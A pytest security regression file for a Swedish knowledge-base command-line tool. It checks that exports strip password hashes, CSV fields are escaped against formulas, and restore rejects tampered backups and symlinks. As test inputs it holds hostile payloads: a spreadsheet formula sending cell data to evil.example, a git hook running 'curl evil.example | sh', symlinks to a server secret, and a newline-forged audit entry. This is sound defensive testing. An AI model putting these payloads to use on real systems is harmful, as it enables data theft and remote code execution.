"""Hostile input, round three, through the command line: the archive export (password hashes,
spreadsheet formulas), a tampered backup given to ``kb restore``, control characters in front
matter, ids and names with a final newline, ``root`` as a user name, a trusted proxy range
that trusts everyone, and writers' user names, which the web publishes only when kb.toml says
so. Each test says what the command did before.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import os
import socket
import sqlite3
import stat
import tomllib
import zipfile

import pytest
from click.testing import CliRunner

from datasette_plugins.serve import make_datasette
from kb.app import auth
from kb.app.backup import backup
from kb.app.knowledge_base import KnowledgeBase
from kb.cli import cli
from kb.core.toml_text import without_table

from .helpers import entry_text, set_web

AUTHOR = "anna.andersson@malmo.se"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'


def invoke(*args: str):
    return CliRunner().invoke(cli, list(args))


# --- 3. the export carries no password hash and no roles --------------------------------------------
def test_the_export_leaves_auth_in_the_knowledge_base(kb_root, tmp_path):
    hashed = auth.hash_password("rätt lösen", iterations=1000)
    with (kb_root / "kb.toml").open("a", encoding="utf-8") as handle:
        handle.write('\n# who may write\n[auth]\nproxy_header = "X-Remote-User"\n'
                     f'writers = {{ anna = "{hashed}", erik = "{hashed}" }}\n'
                     'roles = { erik = "facilitator", "maria@malmo.se" = "admin" }\n'
                     '\n[accessibility]\ncontact = "Klimatenheten"\n')
    result = invoke("export", "-o", str(tmp_path / "x.zip"), "--root", str(kb_root))
    assert result.exit_code == 0, result.output
    raw = (tmp_path / "x.zip").read_bytes()
    with zipfile.ZipFile(tmp_path / "x.zip") as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    everything = raw + b"".join(files.values())  # the zip as stored, and every file unpacked
    # before: kb.toml as written, five pbkdf2_sha256 hashes and the roles in a 0644 file
    for secret in (b"pbkdf2", hashed.encode(), b"maria@malmo.se", b"X-Remote-User"):
        assert secret not in everything, secret
    assert b"[auth]" not in files["kb.toml"] and b"who may write" not in files["kb.toml"]
    settings = tomllib.loads(files["kb.toml"].decode("utf-8"))
    assert "auth" not in settings and settings["accessibility"] == {"contact": "Klimatenheten"}
    assert [a["slug"] for a in settings["areas"]] == [a["slug"] for a in tomllib.loads(
        (kb_root / "kb.toml").read_text(encoding="utf-8"))["areas"]]
    assert "[auth]" in (kb_root / "kb.toml").read_text(encoding="utf-8")  # the knowledge base keeps it
    assert "without its `[auth]` table" in files["README.md"].decode("utf-8")


@pytest.mark.parametrize("text", [
    'title = "T"\nauth.roles = { anna = "writer" }\n[[areas]]\nslug = "a"\n',
    'title = "T"\n[auth]\nwriters = { a = "p" }\n[auth.more]\nx = """\n[areas]\n"""\n[[areas]]\nslug = "a"\n',
    '[ "auth" ]\ntrusted_proxies = [\n  "10.0.0.1", # the proxy\n]\n[[areas]]\nslug = "a"\nname = "[auth]"\n',
])
def test_auth_is_taken_out_of_any_kb_toml_and_the_rest_kept(text):
    left = without_table(text, "auth")
    assert left is not None and "auth" not in tomllib.loads(left)
    assert tomllib.loads(left) == {k: v for k, v in tomllib.loads(text).items() if k != "auth"}


# --- 6. the export's entries.csv runs no formulas --------------------------------------------------------
def test_the_export_csv_has_no_formulas(kb_root, tmp_path):
    (kb_root / "entries/energi/formel.md").write_text(
        f"---\nid: formel\ntitle: '{FORMULA_TITLE}'\narea: energi\ndate: 2026-04-05\ntype: idea\n"
        "tags: [+cmd, '@SUM(1+1)']\nactors: [-Malmö stad]\n---\n## Vad hände?\nEtt kalkylblad körde titeln.\n",
        encoding="utf-8")
    assert invoke("export", "-o", str(tmp_path / "x.zip"), "--root", str(kb_root)).exit_code == 0
    with zipfile.ZipFile(tmp_path / "x.zip") as archive:
        table = archive.read("entries.csv").decode("utf-8-sig")
        jsonl = archive.read("entries.jsonl").decode("utf-8")
    row = next(r for r in csv.DictReader(io.StringIO(table)) if r["id"] == "formel")
    # before: =HYPERLINK(...), +cmd; @SUM(1+1): formulas in Excel
    assert row["title"] == "'" + FORMULA_TITLE and row["tags"] == "'+cmd; @SUM(1+1)"
    assert row["actors"] == "'-Malmö stad" and row["date"] == "2026-04-05"
    assert FORMULA_TITLE in [json.loads(line)["title"] for line in jsonl.splitlines()]  # as written


# --- 4. restore takes only what a backup of ours holds ----------------------------------------------------
@pytest.fixture
def made_backup(indexed_kb, tmp_path):
    report = backup(indexed_kb.config, tmp_path / "backups")
    folder = tmp_path / "backups" / report.path.rsplit("/", 1)[1]
    return folder


def rewrite_manifest(folder, change) -> None:
    path = folder / "backup-manifest.json"
    manifest = json.loads(path.read_text(encoding="utf-8"))
    change(manifest)
    path.write_text(json.dumps(manifest), encoding="utf-8")


def add_file(folder, rel: str, data: bytes, mode: int = 0o644) -> None:
    path = folder / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)
    rewrite_manifest(folder, lambda m: m["files"].__setitem__(rel, hashlib.sha256(data).hexdigest()))


@pytest.mark.parametrize("rel", [".git/hooks/post-commit", ".kb/secret", "entries/.hidden.md", "notes.txt",
                                 ".kb/vectors.faiss"])
def test_restore_refuses_a_file_no_backup_holds(made_backup, tmp_path, rel):
    add_file(made_backup, rel, b"#!/bin/sh\ncurl evil.example | sh\n", 0o755)
    target = tmp_path / "restored"
    result = invoke("restore", str(made_backup), "--to", str(target))
    # before: restored, the git hook executable (run at the next web save with git_commit on)
    assert result.exit_code == 1 and "no backup of a knowledge base holds" in result.output and rel in result.output
    assert not target.exists()


def test_restore_refuses_links(made_backup, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the server's secret\n", encoding="utf-8")
    entry = next((made_backup / "entries").rglob("*.md"))
    rel = entry.relative_to(made_backup).as_posix()
    entry.unlink()
    entry.symlink_to(secret)  # the manifest's checksum made to match the target's
    rewrite_manifest(made_backup, lambda m: m["files"].__setitem__(
        rel, hashlib.sha256(secret.read_bytes()).hexdigest()))
    result = invoke("restore", str(made_backup), "--to", str(tmp_path / "a"))
    # before: the link was followed and its target copied in
    assert result.exit_code == 1 and "symbolic link" in result.output and not (tmp_path / "a").exists()


def test_restore_refuses_a_linked_folder(made_backup, tmp_path):
    outside = tmp_path / "outside"
    (outside).mkdir()
    (outside / "x.md").write_text("---\ntitle: x\n---\n", encoding="utf-8")
    (made_backup / "agenda").mkdir(exist_ok=True)
    (made_backup / "agenda" / "linked").symlink_to(outside, target_is_directory=True)
    rewrite_manifest(made_backup, lambda m: m["files"].__setitem__(
        "agenda/linked/x.md", hashlib.sha256((outside / "x.md").read_bytes()).hexdigest()))
    result = invoke("restore", str(made_backup), "--to", str(tmp_path / "b"))
    assert result.exit_code == 1 and "symbolic link" in result.output and not (tmp_path / "b").exists()


@pytest.mark.parametrize("files", [["entries/a.md"], {"kb.toml": 42}, {"kb.toml": "not a checksum"}, None])
def test_a_manifest_of_another_shape_is_a_message_not_a_traceback(made_backup, tmp_path, files):
    rewrite_manifest(made_backup, lambda m: m.__setitem__("files", files))
    result = invoke("restore", str(made_backup), "--to", str(tmp_path / "c"))
    # before: AttributeError: 'list' object has no attribute 'items'
    assert result.exit_code == 1 and "not a manifest of `kb backup`" in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_restore_sets_the_modes_itself(made_backup, tmp_path):
    entry = next((made_backup / "entries").rglob("*.md"))
    entry.chmod(0o4755)  # executable, setuid: the backup's own modes are not taken over
    (made_backup / ".kb/kb.db").chmod(0o777)
    for umask, file_mode, folder_mode in ((0o022, 0o644, 0o755), (0o077, 0o600, 0o700)):
        before = os.umask(umask)
        try:
            result = invoke("restore", str(made_backup), "--to", str(tmp_path / f"d{umask:o}"))
        finally:
            os.umask(before)
        assert result.exit_code == 0, result.output
        target = tmp_path / f"d{umask:o}"
        restored = target / entry.relative_to(made_backup)
        assert stat.S_IMODE(restored.stat().st_mode) == file_mode  # before: 4755, as in the backup
        # the index as kb index makes it under that umask: a server of another user reads it
        assert stat.S_IMODE((target / ".kb/kb.db").stat().st_mode) == file_mode
        assert stat.S_IMODE((target / ".kb").stat().st_mode) == folder_mode


# --- 5. control characters in front matter -----------------------------------------------------------------
CONTROL = """\
---
title: "Hinder från Word\\vmed radbrytning"
area: energi
date: 2026-02-02
type: obstacle
tags: [ok, "dold\\x01"]
---
## Vad hände?
Titeln klistrades in från Word.
"""


def test_control_characters_are_refused_by_validate_index_and_import(kb_root, tmp_path):
    (kb_root / "entries/energi/word.md").write_text(CONTROL, encoding="utf-8")
    checked = invoke("validate", "--root", str(kb_root))
    # before: "5 valid entries; ok." and every Atom feed broken
    assert checked.exit_code == 1
    assert "entries/energi/word.md:2: 'title' holds the control character U+000B (Word's line break)" in checked.output
    assert "entries/energi/word.md:6: 'tags' holds the control character U+0001" in checked.output
    indexed = invoke("index", "--root", str(kb_root))
    assert "word.md" in indexed.output and "skipped" in indexed.output
    kb = KnowledgeBase.open(kb_root)
    try:
        assert "word" not in kb.store.entry_ids()
    finally:
        kb.close()
    row = {"id": "w1", "title": "Rad\u000bbrytning", "area": "energi", "area_name": "Energi", "date": "2026-01-01",
           "sprint": None, "type": "lesson", "tags": ["x\u0002"], "actors": [], "roadmap": [], "policy": [],
           "related": [], "extra": {}, "lang": "sv", "path": "x", "intro": "", "sections": [],
           "body": "## Vad hände?\nNågot.\n"}
    (tmp_path / "entries.jsonl").write_text(json.dumps(row) + "\n", encoding="utf-8")
    imported = invoke("import", str(tmp_path / "entries.jsonl"), "--root", str(kb_root), "--write")
    assert "holds the control character U+000B" in imported.output and not (kb_root / "entries/energi/w1.md").exists()
    (tmp_path / "register.csv").write_text("Rubrik,Datum,Taggar,Vad\nBra,2026-03-02,\"a\x01b\",Text.\n",
                                           encoding="utf-8")
    register = invoke("import", str(tmp_path / "register.csv"), "--root", str(kb_root), "--map",
                      "title=Rubrik,date=Datum,tags=Taggar", "--area", "energi", "--section", "Vad hände?=Vad")
    assert "holds the control character U+0001" in register.output and "Would create 0 entries" in register.output


# --- 10. ids, slugs and names: the whole value, no final newline ----------------------------------------------
def test_a_final_newline_makes_no_valid_id_slug_or_address(kb_root):
    (kb_root / "entries/energi/ny.md").write_text(CONTROL.replace(
        'title: "Hinder från Word\\vmed radbrytning"', 'id: "ny-rad\\n"\ntitle: Ny rad').replace(
        'tags: [ok, "dold\\x01"]', "tags: [ok]"), encoding="utf-8")
    checked = invoke("validate", "--root", str(kb_root))
    assert checked.exit_code == 1 and "id 'ny-rad\\n' may hold only letters" in checked.output  # before: ok
    assert not auth.valid_name("anna\n") and auth.valid_name("anna")
    toml = kb_root / "kb.toml"
    toml.write_text('base_url = "https://larande.example.se\\n"\n' + toml.read_text(encoding="utf-8"),
                    encoding="utf-8")
    assert invoke("validate", "--root", str(kb_root)).exit_code == 1


def test_kb_audit_prints_one_line_per_event(kb_root):
    (kb_root / ".kb").mkdir(exist_ok=True)
    (kb_root / ".kb/audit.jsonl").write_text(json.dumps(
        {"at": "2026-01-01T00:00:00+00:00", "who": "anonymous", "action": "signin.failures",
         "target": "anna\n2026-01-02T00:00:00+00:00  admin  entry.forget  entries/x.md"}) + "\n", encoding="utf-8")
    result = invoke("audit", "--root", str(kb_root))
    # before: two lines, the second a forged event
    assert result.exit_code == 0 and len(result.output.splitlines()) == 1
    assert "target=anna\\x0a2026-01-02" in result.output


# --- 7. root is no one's name --------------------------------------------------------------------------------
@pytest.mark.parametrize("table", ['roles = { root = "reader" }', 'writers = { ROOT = "pbkdf2_sha256$1$a$b" }'])
def test_kb_serve_refuses_root_as_a_user_name(kb_root, table):
    with (kb_root / "kb.toml").open("a", encoding="utf-8") as handle:
        handle.write(f"\n[auth]\n{table}\n")
    with socket.socket() as busy:  # were [auth] taken, the busy port would stop it (no server left running)
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        result = invoke("serve", "--root", str(kb_root), "--port", str(busy.getsockname()[1]))
    # before: it started, and a sign-on user named root had all of Datasette's powers
    assert result.exit_code == 1 and "is reserved" in result.output, result.output


# --- 12. a trusted proxy range that trusts everyone ---------------------------------------------------------
@pytest.mark.parametrize("proxies, warned", [('["0.0.0.0/0"]', True), ('["::/0"]', True), ('"8.0.0.0/8"', True),
                                             ('["127.0.0.1", "10.20.0.0/16"]', False)])
def test_kb_serve_warns_about_a_proxy_range_that_trusts_everyone(kb_root, proxies, warned):
    with (kb_root / "kb.toml").open("a", encoding="utf-8") as handle:
        handle.write(f'\n[auth]\nproxy_header = "X-Remote-User"\ntrusted_proxies = {proxies}\n')
    with socket.socket() as busy:  # the warning comes before the port is taken: a busy one stops it there
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        result = invoke("serve", "--root", str(kb_root), "--port", str(busy.getsockname()[1]))
    assert result.exit_code == 1 and "already in use" in result.output
    # before: not a word
    assert ("warning: [auth] trusted_proxies:" in result.stderr) == warned, result.stderr
    if warned:
        assert "trusts" in result.stderr and "sign in as anyone" in result.stderr


# --- 12. writers' user names: published only when kb.toml says so ----------------------------------------------
def authored_kb(kb_root, publish: bool | None):
    (kb_root / "entries/mobilitet/anna.md").write_text(entry_text(
        {"id": "anna-skrev", "title": "Kapacitetsbesked före beställning", "area": "mobilitet",
         "date": "2026-04-04", "type": "lesson", "author": AUTHOR, "source": "formuläret"}), encoding="utf-8")
    if publish is not None:
        set_web(kb_root, publish_authors=publish, sql="all")
    assert invoke("index", "-q", "--root", str(kb_root)).exit_code == 0
    return make_datasette(kb_root)


def fetch(ds, *paths):
    async def go():
        await ds.invoke_startup()
        return [(await ds.client.get(path)).text for path in paths]

    return asyncio.run(go())


PUBLISHED = ("/-/kb/feed.atom", "/-/kb/entry/anna-skrev",
             "/kb.json?sql=select+author,+extra+from+entries+where+id+%3D+%27anna-skrev%27&_shape=array")


@pytest.mark.parametrize("publish", [None, False])
def test_writers_user_names_stay_unpublished_by_default(kb_root, publish):
    feed, page, sql = fetch(authored_kb(kb_root, publish), *PUBLISHED)
    assert AUTHOR not in feed + page + sql
    if publish is not None:  # SQL of one's own is open here: author reads as null, the rest of extra stays
        assert json.loads(sql) == [{"author": None, "extra": '{"source": "formuläret"}'}]


def test_publish_authors_shows_them(kb_root):
    feed, page, sql = fetch(authored_kb(kb_root, True), *PUBLISHED)
    assert f"<name>{AUTHOR}</name>" in feed and AUTHOR in page
    assert json.loads(sql) == [{"author": AUTHOR, "extra": '{"source": "formuläret"}'}]


def test_an_index_from_before_gets_its_author_column_without_re_embedding(kb_root):
    authored_kb(kb_root, None)
    db = kb_root / ".kb/kb.db"
    with sqlite3.connect(db) as conn:  # the index as the version before wrote it
        conn.execute("update entries set extra = json_set(extra, '$.author', author)")
        conn.execute("alter table entries drop column author")
        conn.execute("alter table followed_entries drop column author")
        conn.execute("delete from _sqlite_migrations where name = 'm006_author_column'")
    kb = KnowledgeBase.open(kb_root)
    try:
        author, extra = kb.store.db.execute("select author, extra from entries where id = 'anna-skrev'").fetchone()
        assert author == AUTHOR and json.loads(extra) == {"source": "formuläret"}
        assert kb.store.get_entries(["anna-skrev"])["anna-skrev"]["extra"] == {"source": "formuläret",
                                                                               "author": AUTHOR}
        update = kb.index()
        assert not update.changed and update.chunks_embedded == 0  # the content hashes are those of before
    finally:
        kb.close()


def test_web_settings_are_checked(kb_root):
    set_web(kb_root, sql="everyone")
    result = invoke("validate", "--root", str(kb_root))
    assert result.exit_code == 1 and "[web] sql = 'everyone' is not one of all, signed-in, off" in result.output
